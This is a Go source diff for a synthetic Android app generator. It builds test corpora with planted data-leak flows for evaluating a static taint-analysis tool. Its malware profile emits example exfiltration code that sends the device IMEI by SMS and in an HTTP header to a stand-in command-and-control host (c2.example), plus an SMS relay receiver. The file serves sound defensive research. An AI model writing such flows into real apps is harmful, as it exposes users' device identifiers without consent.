@@ -1,0 +1,383 @@
+// Package appgen generates synthetic Android app corpora for the RQ3
+// experiments. The paper analyzed the 500 most popular Google Play apps
+// and about 1,000 malware samples from VirusShare; neither corpus can be
+// redistributed, so this package generates populations calibrated to the
+// paper's observations instead:
+//
+//   - "Play" profile: larger apps with much benign helper code; the
+//     majority accidentally leak identifiers (IMEI, location) into logs
+//     and preference files — the ad-library pattern — but nothing truly
+//     malicious (no SMS/network exfiltration of identifiers).
+//   - "Malware" profile: comparatively small apps averaging ≈1.85 leaks
+//     per sample, typically identification data sent via SMS or to a
+//     remote server, including broadcast-receiver relays that forward
+//     received data as SMS.
+//
+// Generation is fully deterministic from a seed, and each generated app
+// records its injected ground truth so the harness can check the analysis
+// end to end at corpus scale.
+package appgen
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+)
+
+// minMax is an inclusive integer range.
+type minMax struct{ Min, Max int }
+
+func (m minMax) pick(r *rand.Rand) int {
+	if m.Max <= m.Min {
+		return m.Min
+	}
+	return m.Min + r.Intn(m.Max-m.Min+1)
+}
+
+// Profile describes an app population.
+type Profile struct {
+	Name       string
+	Activities minMax
+	Services   minMax
+	Receivers  minMax
+	// Helpers are benign utility classes; NoiseMethods/NoiseStmts size
+	// them.
+	Helpers      minMax
+	NoiseMethods minMax
+	NoiseStmts   minMax
+
+	// Per-app injection probabilities for the leak patterns.
+	PImeiToLog      float64 // identifier logged (the Samsung Push Service pattern)
+	PLocToPrefs     float64 // location into a preferences file (Hugo Runner)
+	PPwdToLog       float64 // password field logged
+	PImeiToSms      float64 // identifier exfiltrated via SMS (malware)
+	PImeiToNet      float64 // identifier in an HTTP header (malware)
+	PBroadcastRelay float64 // received broadcasts forwarded as SMS (malware)
+}
+
+// Play is the Google-Play-like population profile.
+var Play = Profile{
+	Name:         "play",
+	Activities:   minMax{2, 5},
+	Services:     minMax{0, 2},
+	Receivers:    minMax{0, 1},
+	Helpers:      minMax{4, 10},
+	NoiseMethods: minMax{3, 6},
+	NoiseStmts:   minMax{4, 10},
+	PImeiToLog:   0.60,
+	PLocToPrefs:  0.35,
+	PPwdToLog:    0.05,
+}
+
+// Malware is the VirusShare-like population profile.
+var Malware = Profile{
+	Name:            "malware",
+	Activities:      minMax{1, 2},
+	Services:        minMax{0, 1},
+	Receivers:       minMax{1, 2},
+	Helpers:         minMax{1, 3},
+	NoiseMethods:    minMax{1, 3},
+	NoiseStmts:      minMax{2, 6},
+	PImeiToSms:      0.90,
+	PBroadcastRelay: 0.55,
+	PImeiToNet:      0.40,
+}
+
+// App is one generated application with its injected ground truth.
+type App struct {
+	Name  string
+	Files map[string]string
+	// InjectedLeaks is the number of planted source-to-sink flows.
+	InjectedLeaks int
+	// LeakKinds names the planted patterns.
+	LeakKinds []string
+	// Classes counts the generated classes (a size proxy).
+	Classes int
+}
+
+// Generate produces the idx-th app of a profile, deterministically from
+// the rng.
+func Generate(r *rand.Rand, p Profile, idx int) App {
+	g := &gen{r: r, pkg: fmt.Sprintf("com.%s.app%03d", p.Name, idx)}
+
+	nAct := p.Activities.pick(r)
+	if nAct == 0 {
+		nAct = 1
+	}
+	nSvc := p.Services.pick(r)
+	nRcv := p.Receivers.pick(r)
+	nHelp := p.Helpers.pick(r)
+
+	// Decide the injected leaks up front and distribute them over
+	// components.
+	type injection struct{ kind string }
+	var inj []injection
+	roll := func(prob float64, kind string) {
+		if prob > 0 && r.Float64() < prob {
+			inj = append(inj, injection{kind})
+		}
+	}
+	roll(p.PImeiToLog, "imei->log")
+	roll(p.PLocToPrefs, "location->prefs")
+	roll(p.PPwdToLog, "password->log")
+	roll(p.PImeiToSms, "imei->sms")
+	roll(p.PImeiToNet, "imei->net")
+	if nRcv > 0 {
+		roll(p.PBroadcastRelay, "broadcast->sms")
+	}
+
+	// Helper classes (benign noise).
+	for h := 0; h < nHelp; h++ {
+		g.emitHelper(h, p.NoiseMethods.pick(r), p.NoiseStmts)
+	}
+
+	// Assign activity-borne leaks round-robin over the activities.
+	perActivity := make([][]string, nAct)
+	var receiverLeaks []string
+	for i, in := range inj {
+		switch in.kind {
+		case "broadcast->sms":
+			receiverLeaks = append(receiverLeaks, in.kind)
+		default:
+			a := i % nAct
+			perActivity[a] = append(perActivity[a], in.kind)
+		}
+	}
+
+	var comps []string
+	for a := 0; a < nAct; a++ {
+		name := fmt.Sprintf("Activity%d", a)
+		g.emitActivity(name, perActivity[a], nHelp, p.NoiseStmts)
+		comps = append(comps, "activity:"+name)
+	}
+	for s := 0; s < nSvc; s++ {
+		name := fmt.Sprintf("Service%d", s)
+		g.emitService(name, nHelp, p.NoiseStmts)
+		comps = append(comps, "service:"+name)
+	}
+	for rc := 0; rc < nRcv; rc++ {
+		name := fmt.Sprintf("Receiver%d", rc)
+		leak := rc == 0 && len(receiverLeaks) > 0
+		g.emitReceiver(name, leak)
+		comps = append(comps, "receiver:"+name)
+	}
+
+	kinds := make([]string, 0, len(inj))
+	for _, in := range inj {
+		kinds = append(kinds, in.kind)
+	}
+	return App{
+		Name:          g.pkg,
+		Files:         g.files(comps),
+		InjectedLeaks: len(inj),
+		LeakKinds:     kinds,
+		Classes:       g.classes,
+	}
+}
+
+// GenerateCorpus produces n apps from a fixed seed.
+func GenerateCorpus(p Profile, n int, seed int64) []App {
+	r := rand.New(rand.NewSource(seed))
+	out := make([]App, 0, n)
+	for i := 0; i < n; i++ {
+		out = append(out, Generate(r, p, i))
+	}
+	return out
+}
+
+// ---------------------------------------------------------------- emitter
+
+type gen struct {
+	r       *rand.Rand
+	pkg     string
+	code    strings.Builder
+	classes int
+	uniq    int
+	needPwd bool
+}
+
+func (g *gen) fresh(stem string) string {
+	g.uniq++
+	return fmt.Sprintf("%s%d", stem, g.uniq)
+}
+
+// emitHelper writes a benign utility class with string-shuffling methods.
+func (g *gen) emitHelper(idx, methods int, stmts minMax) {
+	g.classes++
+	fmt.Fprintf(&g.code, "class %s.Helper%d {\n", g.pkg, idx)
+	for m := 0; m < methods; m++ {
+		fmt.Fprintf(&g.code, "  static method work%d(x: java.lang.String): java.lang.String {\n", m)
+		cur := "x"
+		n := stmts.pick(g.r)
+		for s := 0; s < n; s++ {
+			nxt := g.fresh("v")
+			switch g.r.Intn(4) {
+			case 0:
+				fmt.Fprintf(&g.code, "    %s = %s + \"-%d\"\n", nxt, cur, s)
+			case 1:
+				fmt.Fprintf(&g.code, "    %s = %s.trim()\n", nxt, cur)
+			case 2:
+				fmt.Fprintf(&g.code, "    %s = %s.toUpperCase()\n", nxt, cur)
+			default:
+				fmt.Fprintf(&g.code, "    %s = %s.substring(1)\n", nxt, cur)
+			}
+			cur = nxt
+		}
+		fmt.Fprintf(&g.code, "    return %s\n  }\n", cur)
+	}
+	g.code.WriteString("}\n")
+}
+
+// launder routes a value through a random helper to make the flows
+// interprocedural, returning the local holding the result.
+func (g *gen) launder(val string, nHelpers int) string {
+	if nHelpers == 0 {
+		return val
+	}
+	h := g.r.Intn(nHelpers)
+	out := g.fresh("w")
+	fmt.Fprintf(&g.code, "    %s = %s.Helper%d.work0(%s)\n", out, g.pkg, h, val)
+	return out
+}
+
+func (g *gen) emitNoise(stmts minMax) {
+	n := stmts.pick(g.r)
+	cur := g.fresh("n")
+	fmt.Fprintf(&g.code, "    %s = \"noise\"\n", cur)
+	for s := 0; s < n; s++ {
+		nxt := g.fresh("n")
+		fmt.Fprintf(&g.code, "    %s = %s + \"x\"\n", nxt, cur)
+		cur = nxt
+	}
+}
+
+func (g *gen) emitActivity(name string, leaks []string, nHelpers int, stmts minMax) {
+	g.classes++
+	fmt.Fprintf(&g.code, "class %s.%s extends android.app.Activity {\n", g.pkg, name)
+	g.code.WriteString("  method onCreate(b: android.os.Bundle): void {\n")
+	if g.needsLayout(leaks) {
+		g.code.WriteString("    this.setContentView(@layout/main)\n")
+	}
+	g.emitNoise(stmts)
+	for _, kind := range leaks {
+		g.emitLeak(kind, nHelpers)
+	}
+	g.code.WriteString("    return\n  }\n")
+	g.code.WriteString("}\n")
+}
+
+func (g *gen) needsLayout(leaks []string) bool {
+	for _, k := range leaks {
+		if k == "password->log" {
+			g.needPwd = true
+			return true
+		}
+	}
+	return false
+}
+
+// emitLeak writes one planted flow inside the current method body.
+func (g *gen) emitLeak(kind string, nHelpers int) {
+	switch kind {
+	case "imei->log":
+		v := g.imei()
+		w := g.launder(v, nHelpers)
+		fmt.Fprintf(&g.code, "    android.util.Log.i(\"app\", %s)\n", w)
+	case "location->prefs":
+		v := g.location()
+		w := g.launder(v, nHelpers)
+		p, ed := g.fresh("p"), g.fresh("ed")
+		fmt.Fprintf(&g.code, "    %s = this.getSharedPreferences(\"state\", 0)\n", p)
+		fmt.Fprintf(&g.code, "    %s = %s.edit()\n", ed, p)
+		fmt.Fprintf(&g.code, "    %s.putString(\"loc\", %s)\n", ed, w)
+	case "password->log":
+		raw, et, pv := g.fresh("raw"), g.fresh("et"), g.fresh("pv")
+		fmt.Fprintf(&g.code, "    %s = this.findViewById(@id/pwd)\n", raw)
+		fmt.Fprintf(&g.code, "    local %s: android.widget.EditText\n", et)
+		fmt.Fprintf(&g.code, "    %s = (android.widget.EditText) %s\n", et, raw)
+		fmt.Fprintf(&g.code, "    %s = %s.getText()\n", pv, et)
+		w := g.launder(pv, nHelpers)
+		fmt.Fprintf(&g.code, "    android.util.Log.d(\"auth\", %s)\n", w)
+	case "imei->sms":
+		v := g.imei()
+		w := g.launder(v, nHelpers)
+		s := g.fresh("sms")
+		fmt.Fprintf(&g.code, "    %s = android.telephony.SmsManager.getDefault()\n", s)
+		fmt.Fprintf(&g.code, "    %s.sendTextMessage(\"+7 900\", null, %s, null, null)\n", s, w)
+	case "imei->net":
+		v := g.imei()
+		w := g.launder(v, nHelpers)
+		u, c := g.fresh("u"), g.fresh("c")
+		fmt.Fprintf(&g.code, "    %s = new java.net.URL(\"http://c2.example/ping\")\n", u)
+		fmt.Fprintf(&g.code, "    %s = %s.openConnection()\n", c, u)
+		fmt.Fprintf(&g.code, "    %s.setRequestProperty(\"X-Id\", %s)\n", c, w)
+	}
+}
+
+// imei emits the device-id source and returns the local holding it.
+func (g *gen) imei() string {
+	raw, tm, id := g.fresh("raw"), g.fresh("tm"), g.fresh("id")
+	fmt.Fprintf(&g.code, "    %s = this.getSystemService(\"phone\")\n", raw)
+	fmt.Fprintf(&g.code, "    local %s: android.telephony.TelephonyManager\n", tm)
+	fmt.Fprintf(&g.code, "    %s = (android.telephony.TelephonyManager) %s\n", tm, raw)
+	fmt.Fprintf(&g.code, "    %s = %s.getDeviceId()\n", id, tm)
+	return id
+}
+
+// location emits the location source.
+func (g *gen) location() string {
+	raw, lm, lc, s := g.fresh("raw"), g.fresh("lm"), g.fresh("lc"), g.fresh("ls")
+	fmt.Fprintf(&g.code, "    %s = this.getSystemService(\"location\")\n", raw)
+	fmt.Fprintf(&g.code, "    local %s: android.location.LocationManager\n", lm)
+	fmt.Fprintf(&g.code, "    %s = (android.location.LocationManager) %s\n", lm, raw)
+	fmt.Fprintf(&g.code, "    %s = %s.getLastKnownLocation(\"gps\")\n", lc, lm)
+	fmt.Fprintf(&g.code, "    %s = %s.toString()\n", s, lc)
+	return s
+}
+
+func (g *gen) emitService(name string, nHelpers int, stmts minMax) {
+	g.classes++
+	fmt.Fprintf(&g.code, "class %s.%s extends android.app.Service {\n", g.pkg, name)
+	g.code.WriteString("  method onStartCommand(i: android.content.Intent): void {\n")
+	g.emitNoise(stmts)
+	g.code.WriteString("    return\n  }\n}\n")
+}
+
+func (g *gen) emitReceiver(name string, relay bool) {
+	g.classes++
+	fmt.Fprintf(&g.code, "class %s.%s extends android.content.BroadcastReceiver {\n", g.pkg, name)
+	g.code.WriteString("  method onReceive(c: android.content.Context, i: android.content.Intent): void {\n")
+	if relay {
+		// The malware relay: data received via broadcast is forwarded by
+		// SMS, letting other apps send texts without the permission.
+		d, s := g.fresh("d"), g.fresh("sm")
+		fmt.Fprintf(&g.code, "    %s = i.getStringExtra(\"payload\")\n", d)
+		fmt.Fprintf(&g.code, "    %s = android.telephony.SmsManager.getDefault()\n", s)
+		fmt.Fprintf(&g.code, "    %s.sendTextMessage(\"+7 901\", null, %s, null, null)\n", s, d)
+	}
+	g.code.WriteString("    return\n  }\n}\n")
+}
+
+func (g *gen) files(comps []string) map[string]string {
+	var mf strings.Builder
+	fmt.Fprintf(&mf, "<manifest package=%q>\n  <application>\n", g.pkg)
+	for i, c := range comps {
+		kind, name, _ := strings.Cut(c, ":")
+		main := ""
+		if i == 0 {
+			main = "<intent-filter><action android:name=\"android.intent.action.MAIN\"/></intent-filter>"
+		}
+		fmt.Fprintf(&mf, "    <%s android:name=\".%s\">%s</%s>\n", kind, name, main, kind)
+	}
+	mf.WriteString("  </application>\n</manifest>\n")
+	files := map[string]string{
+		"AndroidManifest.xml": mf.String(),
+		"classes.ir":          g.code.String(),
+	}
+	if g.needPwd {
+		files["res/layout/main.xml"] = `<LinearLayout>
+  <EditText android:id="@+id/pwd" android:inputType="textPassword"/>
+</LinearLayout>`
+	}
+	return files
+}
